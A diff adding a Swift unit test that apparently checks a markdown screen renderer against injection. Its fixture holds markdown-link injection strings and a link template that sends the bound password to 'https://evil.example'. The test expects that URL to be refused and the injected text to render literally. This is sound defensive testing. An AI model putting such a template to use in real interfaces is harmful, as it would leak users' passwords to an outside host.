@@ -82,6 +82,44 @@ struct RichTextTests {
     #expect(stage.texts == [#"5 * 3, a ** b, [no](link), i, c:\dir, \"#, "- no list"])
   }
 
+  @Test("reads signs of the document, and none of its values")
+  func values() throws {
+    let stage = try DocumentStage(
+      #"""
+      { "kumiko": "1.0", "type": "Screen",
+        "state": { "query": "a](https://evil.example)[b", "password": "hunter2" },
+        "data": { "name": "**Ada**\n- [x](https://evil.example)", "body": "**It** is *here*." },
+        "sections": [ { "type": "Section", "rows": [
+          { "type": "TextInput", "title": "Password", "bind": "state.password", "isSecure": true },
+          { "type": "DescriptionRow", "markdown": true, "text": "**Hello** ${data.name}" },
+          { "type": "DescriptionRow", "markdown": true, "text": "*${data.name}*\n- b" },
+          { "type": "DescriptionRow", "markdown": true, "text": "${data.body}" },
+          { "type": "DescriptionRow", "markdown": true, "text": "${state.query}" },
+          { "type": "DescriptionRow", "markdown": true, "text": "\udb80\udc00 ${data.body}" },
+          { "type": "DescriptionRow", "markdown": true,
+            "text": "[Find](https://example.org/?q=${state.query}) it" },
+          { "type": "DescriptionRow", "markdown": true,
+            "text": "[Evil](https://evil.example/${state.password})" } ] } ] }
+      """#)
+    #expect(stage.problems.map(\.code) == [.refusedURL])
+    let name = "**Ada**\n- [x](https://evil.example)"
+    for text in [
+      "Hello \(name)", "\(name)\n•  b", "It is here.", "a](https://evil.example)[b",
+      "\u{F0000} **It** is *here*.", "Evil",
+    ] {
+      #expect(stage.texts.contains(text), "\(text) of \(stage.texts)")
+    }
+    let links = links(in: stage.controller.view)
+    #expect(links.map(\.accessibilityLabel) == ["Find it"])
+    let link = try #require(links.first)
+    stage.stage.display.tap(at: link.convert(CGPoint(x: 8, y: link.bounds.midY), to: nil))
+    stage.stage.settle()
+    #expect(
+      stage.spy?.take() == [
+        "open https://example.org/?q=a%5D%28https%3A%2F%2Fevil.example%29%5Bb"
+      ])
+  }
+
   private func links(in view: UIView) -> [UIView] {
     (view.accessibilityTraits.contains(.link) ? [view] : [])
       + view.subviews.flatMap { links(in: $0) }
